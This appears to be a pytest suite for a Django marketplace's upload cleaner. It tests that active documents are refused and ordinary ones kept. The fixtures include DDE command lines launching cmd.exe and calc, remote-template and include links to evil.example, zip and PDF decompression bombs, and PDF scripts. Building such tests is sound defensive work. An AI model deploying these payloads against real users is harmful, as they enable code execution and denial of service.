"""A document that does more than show itself is refused beside its field; an ordinary one is taken."""

import io
import re
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from pypdf import PdfReader

from marketplace.models import Deliverable, StoredFile
from marketplace.states import MissionStatus
from marketplace.uploads import clean, office
from marketplace.uploads import pdf as uploaded_pdf
from marketplace.uploads.scanner import TEST_SIGNATURE
from tests.marketplace.documents.document_desk import make_mission
from tests.marketplace.talk.office_files import (
    LINK,
    ODF,
    OFFICE,
    docx,
    odt,
    relationships,
    xlsx,
    zipped,
)
from tests.marketplace.talk.test_files import pdf, sent

FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
DDE = r"DDEAUTO c:\\windows\\system32\\cmd.exe"


def field(*pieces):
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{FIELD.format(said)}</w:p>"


def with_part(name, content):
    return lambda parts: parts.update({name: content})


def with_formula(formula):
    def change(parts):
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        parts["xl/worksheets/sheet1.xml"] = re.sub(
            "<f>.*?</f>", lambda _found: f"<f>{formula}</f>", sheet, count=1
        )

    return change


BOOK = f'<externalLink xmlns="x" xmlns:r="{OFFICE}">'
ACTING = {
    "a remote template": docx(word__settings_xml="<w/>", **{"word___rels__settings_xml_rels": relationships(("attachedTemplate", "https://evil.example/t.dotm", True))}),
    "a template on a share": docx("<w:p/>", ("attachedTemplate", "file://evil.example/t.dotm", True)),
    "a picture fetched from elsewhere": docx("<w:p/>", ("image", "https://evil.example/x.png", True)),
    "a page inside": docx('<w:altChunk r:id="r1"/>', ("aFChunk", "chunk.htm", False), kinds=["text/html"], word__chunk_htm="<html/>"),
    "a page inside, without its type": docx("<w:p/>", ("aFChunk", "chunk.bin", False)),
    "a type that is a page's": docx(kinds=["application/xhtml+xml"]),
    "a command": docx(field(DDE)),
    "a command in pieces": docx(field(" DD", "EAU", r"TO c:\\x")),
    "a command in one element": docx(f'<w:p><w:fldSimple w:instr="{DDE}"/></w:p>'),
    "a text fetched from elsewhere": docx(field('INCLUDETEXT "https://evil.example/x"')),
    "an object": docx("<w:p/>", ("oleObject", "media/image1.bin", False)),
    "a type with macros": docx(kinds=["application/vnd.ms-word.document.macroEnabled.main+xml"]),
    "a workbook with DDE": xlsx(with_part("xl/externalLinks/externalLink1.xml", f'{BOOK}<ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>')),
    "a workbook linked to another": xlsx(with_part("xl/externalLinks/_rels/externalLink1.xml.rels", relationships(("externalLinkPath", "https://evil.example/b.xlsx", True)))),
    "a formula with DDE": xlsx(with_formula("cmd|'/C calc'!A0")),
    "a formula with DDE behind a text": xlsx(with_formula("\"x\"&amp;cmd|' /C calc'!A0")),
    "a sheet of old macros": xlsx(with_part("xl/_rels/workbook.xml.rels", relationships(("xlMacrosheet", "macrosheets/sheet1.xml", False)))),
    "data fetched from elsewhere": xlsx(with_part("xl/_rels/workbook.xml.rels", relationships(("connections", "connections.xml", False)))),
    "an open text with DDE": odt('<text:dde-connection-decls><office:dde-source office:dde-application="cmd"/></text:dde-connection-decls>'),
    "an open text with a script": odt('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>'),
    "an open text with a picture from elsewhere": odt('<draw:image xlink:href="https://evil.example/x.png"/>'),
    "an open text with a frame": odt('<draw:floating-frame xlink:href="https://evil.example/"/>'),
    "an open text whose template is remote": odt(meta_xml=f'<office:document-meta {ODF}><meta:template xlink:href="https://evil.example/t.ott"/></office:document-meta>'),
    "an open text with an object": odt(**{"META-INF__manifest_xml": f'<manifest:manifest {ODF}><manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>'}),
    "slides that run a program": odt('<presentation:event-listener presentation:action="execute" xlink:href="../calc.exe"/>', kind="presentation"),
    "entities": docx(word__more_xml='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
}  # fmt: skip


@pytest.mark.parametrize("case", ACTING)
def test_a_document_that_acts_is_refused_with_what_to_do(case):
    with pytest.raises(ValidationError, match="exportez-le en PDF"):
        clean(sent(ACTING[case], "a.docx"))


ORDINARY = {
    "a text": (docx(), "docx"),
    "a text with links": (docx(field(' HYPERLINK "https://example.org/"'), LINK), "docx"),
    "a text that speaks of DDE": (docx("<w:p><w:r><w:t>DDEAUTO cmd|x!y</w:t></w:r></w:p>"), "docx"),
    "a workbook": (xlsx(), "xlsx"),
    "an open text": (odt('<text:p><text:a xlink:href="https://example.org/">ici</text:a></text:p>'), "odt"),
    "an open workbook": (odt(kind="spreadsheet"), "ods"),
    "open slides": (odt('<presentation:event-listener presentation:action="next-page"/>', kind="presentation"), "odp"),
}  # fmt: skip


@pytest.mark.parametrize("case", ORDINARY)
def test_an_ordinary_document_is_kept_as_it_is(case):
    content, ending = ORDINARY[case]
    kept = clean(sent(content, "a.bin"))
    assert (kept.name, kept.content) == (f"a.{ending}", content)


# --- archives that are none ----------------------------------------------------------------
def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as box:
        box.writestr("word/document.xml", "<x/>")
        with pytest.warns(UserWarning, match="Duplicate"):
            box.writestr("word/document.xml", "<x/>")
    return out.getvalue()


def told(content: bytes, at: int, sign: bytes) -> bytes:
    """The same, with this byte in each entry of the zip's own list (PK\\1\\2)."""
    found = bytearray(content)
    for match in re.finditer(b"PK\x01\x02", content):
        found[match.start() + at : match.start() + at + len(sign)] = sign
    return bytes(found)


BROKEN = {
    "a part twice": (twice(), "abîmé"),
    "two parts that differ by a capital": (zipped({"word/document.xml": "<x/>", "word/Document.xml": "<x/>"}), "abîmé"),
    "a way of packing that nobody knows": (told(docx(), 10, b"\x63"), "abîmé"),
    "parts that are locked": (told(docx(), 8, b"\x01"), "mot de passe"),
    "no XML": (zipped({"word/document.xml": "x"}), "abîmé"),
    "XML without an end": (zipped({"word/document.xml": "<x>"}), "abîmé"),
    "a part that says less than it holds": (told(zipped({"word/document.xml": "<x/>" + " " * 9000}), 24, b"\x09\0\0\0"), "abîmé"),
}  # fmt: skip


@pytest.mark.parametrize("case", BROKEN)
def test_an_archive_that_lies_is_refused(case):
    content, said = BROKEN[case]
    with pytest.raises(ValidationError, match=said):
        clean(sent(content, "a.docx"))


def test_what_is_unpacked_is_counted_as_it_comes(monkeypatch):
    monkeypatch.setattr(office, "MOST_UNPACKED", 300_000)
    clean(sent(docx(word__media__a_txt="a" * 200_000)))
    bomb = docx(word__media__a_txt="a" * 200_000, word__media__b_txt="a" * 200_000)
    with pytest.raises(ValidationError, match="décompressé"):
        clean(sent(bomb))


def test_elements_are_counted_too(monkeypatch):
    monkeypatch.setattr(office, "MOST_ELEMENTS", 500)
    with pytest.raises(ValidationError, match="décompressé"):
        clean(sent(docx("<w:p/>" * 600)))


# --- the signature that scanners are tried with --------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        pdf() + b"\n%" + TEST_SIGNATURE,
        pdf().replace(b"%%EOF", b"% " + TEST_SIGNATURE + b"\n%%EOF"),
        docx(word__media__a_txt="a" * (office.PIECE - 30) + TEST_SIGNATURE.decode()),
    ],
    ids=["after a PDF", "in a PDF", "packed in a text, across two pieces"],
)
def test_the_test_of_scanners_is_refused_even_without_one(content):
    with pytest.raises(ValidationError, match="EICAR"):
        clean(sent(content))


# --- beside the field ----------------------------------------------------------------------
def test_the_sentence_stands_beside_the_field_and_nothing_is_kept(client):
    mission = make_mission(status=MissionStatus.RUNNING)
    client.force_login(mission.offer.person)
    url = reverse("deliverable-new", args=[mission.pk])
    page = client.post(
        url, {"title": "Le budget", "sent": sent(ACTING["a workbook with DDE"], "b.xlsx")}
    )
    assert "exportez-le en PDF" in page.context["form"].errors["sent"][0]
    assert "Le budget" in page.text
    assert not StoredFile.objects.exists()
    assert not Deliverable.objects.exists()


# --- PDFs whose table of objects lacks -----------------------------------------------------
def cut(content: bytes) -> dict[str, bytes]:
    table = content.rindex(b"xref\n", 0, content.rindex(b"startxref"))
    trailer, start = content.index(b"trailer"), content.index(b"startxref")
    return {
        "no table": content[:table] + content[trailer:],
        "no startxref": content[:start],
        "no trailer": content[:table] + content[start:],
        "nothing but its objects": content[:table],
        "a table elsewhere": re.sub(rb"startxref\n\d+", b"startxref\n7", content),
        "a table beyond its end": re.sub(rb"startxref\n\d+", b"startxref\n999999", content),
        "wrong places": re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m[1]) + 7), content),
        "no end": content.replace(b"%%EOF", b""),
        "words after its end": content + b"\nx" * 2000,
    }  # fmt: skip


CASES = sorted(cut(pdf()))


@pytest.mark.parametrize("case", CASES)
def test_a_pdf_that_readers_mend_is_taken_and_given_back_sound(case):
    kept = clean(sent(cut(pdf())[case])).content
    assert len(PdfReader(io.BytesIO(kept), strict=True).pages) == 1


@pytest.mark.parametrize("case", CASES)
def test_a_script_is_found_whatever_lacks_in_its_pdf(case):
    with pytest.raises(ValidationError, match="scripts"):
        clean(sent(cut(pdf("app.alert(1)"))[case]))


def with_a_stream_of_references() -> bytes:
    """PDF 1.5: no table, the references stand in a stream, the catalogue is packed in another."""
    packed = b"1 0 2 34 << /Type /Catalog /Pages 2 0 R >> << /Type /Pages /Kids [3 0 R] /Count 1 >>"
    first = packed.index(b"<<")
    packed = packed.replace(b"2 34", b"2 %d" % (packed.rindex(b"<< /Type /Pages") - first))
    first = packed.index(b"<<")
    packed = zlib.compress(packed)
    objects = [
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream\nendobj\n"
        % (first, len(packed), packed),
    ]
    content, places = b"%PDF-1.5\n", []
    for one in objects:
        places.append(len(content))
        content += one
    start = len(content)
    rows = [(0, 0, 255), (2, 4, 0), (2, 4, 1), (1, places[0], 0), (1, places[1], 0), (1, start, 0)]
    table = b"".join(
        bytes([kind]) + place.to_bytes(2, "big") + bytes([last]) for kind, place, last in rows
    )
    head = b"/Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d" % len(table)
    return content + b"5 0 obj\n<< %b >>\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        head, table, start,
    )  # fmt: skip


def packed_objects(data: bytes, filters: bytes, how_many=1, kind=b"/ObjStm") -> bytes:
    head = b"<< /Type %b /N 2 /First 8 %b /Length %d >>" % (kind, filters, len(data))
    streams = [
        b"%d 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (number, head, data)
        for number in range(10, 10 + how_many)
    ]
    return pdf().replace(b"xref\n0", b"".join(streams) + b"xref\n0", 1)


NOTHING = b" " * 3 * 1024 * 1024
BOMBS = {
    "many": packed_objects(zlib.compress(NOTHING), b"/Filter /FlateDecode", 3),
    "packed twice": packed_objects(zlib.compress(zlib.compress(NOTHING)), b"/Filter [/FlateDecode /FlateDecode]"),
    "packed otherwise": packed_objects(b"x", b"/Filter /RunLengthDecode"),
    "under another spelling": packed_objects(zlib.compress(NOTHING), b"/Filter /FlateDecode", 3, b"/Obj#53tm"),
    "hidden in one another": packed_objects(zlib.compress(NOTHING) + b"endstream", b"/Filter /FlateDecode", 3),
}  # fmt: skip


@pytest.mark.parametrize("case", BOMBS)
def test_objects_packed_to_choke_their_reader_are_never_unpacked(case, monkeypatch):
    """The package, which would unpack them all, isn't asked."""
    monkeypatch.setattr(uploaded_pdf, "PdfReader", None)
    with pytest.raises(ValidationError, match="lire ce PDF"):
        clean(sent(BOMBS[case]))


def test_a_sound_pdf_is_kept_byte_for_byte_with_a_table_or_a_stream():
    for content in (pdf(), with_a_stream_of_references()):
        assert clean(sent(content)).content == content
